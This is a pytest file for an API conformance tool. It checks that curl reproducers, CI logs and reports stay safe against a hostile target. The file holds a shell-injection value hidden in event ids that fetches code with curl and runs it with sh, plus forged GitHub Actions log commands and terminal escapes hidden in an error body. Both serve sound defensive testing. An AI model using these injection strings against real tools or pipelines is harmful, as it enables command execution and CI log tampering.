"""What a hostile target can make the suite print, write or run: a run against the
reference server behind a tamperer, then every artefact and every reproducer inspected.

* Reproducers: the target issues a token made of a piece of shell quoting and event ids
  that hold commands; every curl line the run printed or wrote, run by `sh` with a stub
  `curl` alone on PATH, calls curl once (or, withheld, nothing) and prints nothing.
* Leaks and the CI log: an error body that puts the key just past where a message is
  cut, with log commands and escape sequences after it; a 5 MB status with control
  characters. No piece of the key in any stream or file, no line a CI runner would obey,
  no control character in report.html, and outputs of bounded size.
"""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from masivo_conformance.checks.calls import EVENT_OPERATIONS
from tests.cli.cli_runs import run_cli, target_args
from tests.hostile.stub_curl import stub_curl
from tests.hostile.tamperer import Exchange, Tamperer, json_patch, replace

# The review's attack: a token that is a piece of shell quoting as shlex writes it
# ('"'"'), and event ids that close a quote and start commands where it is redacted.
# (tests/unit/test_reproducers.py aims at the reproducers' own quoting, '\''.)
QUOTING_TOKEN = "\"'\"'Bx"
COMMANDS = "A'BxOUT;curl$IFS-so$IFS,x$IFS$@127.0.0.1:9;sh$IFS,x;echo$IFS'BxOUT2"
GITHUB_COMMAND = re.compile(r"^[ \t]*::", re.MULTILINE)
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def _hand_out_own_values(hostile: Tamperer) -> None:
    """The target issues QUOTING_TOKEN for the real token and event ids holding
    COMMANDS; the tamperer hands the upstream its own values back."""
    ids: dict[str, str] = {}

    def token(body: Any) -> Any:
        if not isinstance(body, dict) or not isinstance(body.get("data"), str):
            return body  # a refused key: nothing issued
        hostile.translate(QUOTING_TOKEN, body["data"])
        return {**body, "data": QUOTING_TOKEN}

    def event_id(body: Any) -> Any:
        data = body.get("data") if isinstance(body, dict) else None
        if not isinstance(data, dict) or not isinstance(data.get("id"), str):
            return body
        real = data["id"]
        if real not in ids:
            ids[real] = f"{COMMANDS}-{len(ids):03d}"  # no id a prefix of another
            hostile.translate(ids[real], real)
        return {**body, "data": {**data, "id": ids[real]}}

    hostile.rule("authorize", json_patch(token))
    # A few reverses answer 500: GEN-3 findings whose curl lines carry an id in the URL.
    hostile.rule("reverse_event", replace(status=500, body="boom", content_type="text/plain"), 2)
    for operation in EVENT_OPERATIONS:
        hostile.rule(operation, json_patch(event_id))


def _reproducers(stdout: str, report_dir: Path) -> list[str]:
    """Every curl line of the run: printed, in a file, or in result.json."""
    result = json.loads((report_dir / "result.json").read_text())
    recorded = [f["reproducer"] for r in result["requirements"] for f in r["findings"]]
    printed = [
        line.split("reproduce: ", 1)[1]
        for line in stdout.splitlines()
        if "reproduce: " in line and not line.split("reproduce: ", 1)[1].startswith("sh ")
    ]
    files = [path.read_text() for path in sorted((report_dir / "reproducers").glob("*.sh"))]
    return [line for line in printed + files + recorded if line]


@pytest.mark.starts_first
def test_no_reproducer_runs_the_targets_commands(hostile: Tamperer, tmp_path: Path) -> None:
    _hand_out_own_values(hostile)
    reports = tmp_path / "reports"
    run = run_cli(
        "run", *target_args(hostile), "--profile", "budget", "--seed", "1", report_dir=reports
    )
    assert run.exit_code == 1, run.tail()
    lines = _reproducers(run.stdout, reports)
    assert any("IFS" in line for line in lines), "no reproducer carries the target's ids"
    stub = stub_curl(tmp_path / "bin")
    for n, line in enumerate(lines):
        work, log = tmp_path / f"work-{n}", tmp_path / f"curl-{n}.log"
        work.mkdir()
        script = tmp_path / f"reproducer-{n}.sh"
        script.write_text(f"{line}\n", encoding="utf-8")
        env = {"PATH": str(stub), "CURL_LOG": str(log), "MASIVO_TOKEN": "t", "MASIVO_API_KEY": "k"}
        done = subprocess.run(
            ["/bin/sh", str(script)], cwd=work, env=env, capture_output=True, text=True, check=False
        )
        calls = log.read_text().splitlines() if log.exists() else []
        assert (done.stdout, done.stderr) == ("", ""), line
        assert list(work.iterdir()) == [], line
        withheld = line.strip().splitlines()[-1].startswith("#")
        assert len(calls) == (0 if withheld else 1), line
        if calls:
            assert QUOTING_TOKEN not in json.loads(calls[0]), line  # the token is $MASIVO_TOKEN
    _sequence_scripts_stay_data(hostile, reports, tmp_path)


def _sequence_scripts_stay_data(hostile: Tamperer, reports: Path, tmp_path: Path) -> None:
    """Every sequence reproducer, run against the same hostile target (which hands out
    ids holding commands again): it replays, answers 0 or 1, prints escaped ASCII only,
    and creates nothing where it runs."""
    scripts = sorted((reports / "reproducers").glob("*.py"))
    assert scripts, "no sequence reproducer written"
    for n, script in enumerate(scripts):
        work = tmp_path / f"replay-{n}"
        work.mkdir()
        env = {
            "PATH": "/usr/bin:/bin",
            "MASIVO_BASE_URL": hostile.base_url,
            "MASIVO_TOKEN": QUOTING_TOKEN,  # the tamperer's token: it swaps the real one in
            "MASIVO_API_KEY": hostile.api_key,
        }
        done = subprocess.run(
            [sys.executable, "-I", str(script)],
            cwd=work,
            env=env,
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
        )
        assert done.returncode in (0, 1), script.name + done.stdout[-2000:] + done.stderr[-2000:]
        assert done.stdout.isascii(), script.name
        assert not CONTROL.search(done.stdout), script.name
        assert done.stderr == "", script.name + done.stderr[-2000:]
        assert list(work.iterdir()) == [], script.name


def _key_pieces(key: str, text: str) -> list[str]:
    """Every run of eight characters of the key found in `text`."""
    return [key[i : i + 8] for i in range(len(key) - 7) if key[i : i + 8] in text]


@pytest.mark.starts_first
def test_a_hostile_answer_leaks_nothing_injects_nothing_and_stays_small(
    hostile: Tamperer, tmp_path: Path
) -> None:
    key = hostile.api_key
    # Log commands and escapes first, then the key where the review found it leaking: at
    # character 184, straddling the cuts at 160 and 200.
    commands = "\n  ::error file=x::forged\n::add-mask::x ##[error]y \x1b[2J\x07\x00"
    error_text = commands + "." * (184 - len(commands)) + key + "." * 40
    hostile.rule("preview_order", replace(status=500, body=error_text, content_type="text/plain"))
    huge_status = "\x00\x07\x1b" + "A" * 5_000_000

    def status(body: Any) -> Any:
        return {**body, "data": {**body["data"], "status": huge_status}}

    def emitted(exchange: Exchange) -> bool:
        return exchange.operation == "emit_event" and 200 <= exchange.status < 300

    hostile.rule(emitted, json_patch(status), times=3)
    reports = tmp_path / "reports"
    run = run_cli(
        "run", *target_args(hostile), "--profile", "budget", "--seed", "1", "-v", report_dir=reports
    )
    assert run.exit_code == 1, run.tail()
    assert {"GEN-3", "GEN-4"} <= set(run.failing())
    outputs = {"stdout": run.stdout, "stderr": run.stderr}
    outputs |= {p.name: p.read_text(encoding="utf-8") for p in reports.rglob("*") if p.is_file()}
    for name, text in outputs.items():
        assert _key_pieces(key, text) == [], name
    for name in ("stdout", "stderr"):
        assert GITHUB_COMMAND.findall(outputs[name]) == [], name
        assert "##" not in outputs[name], name
        assert CONTROL.findall(outputs[name]) == [], name
    assert CONTROL.findall(outputs["report.html"]) == []
    assert "error file=x::forged" in run.stdout  # the target's text is shown, as data
    # A 5 MB value is quoted, not copied: each output stays far below it.
    sizes = {name: len(text) for name, text in outputs.items()}
    assert max(sizes.values()) < 1_000_000, sizes
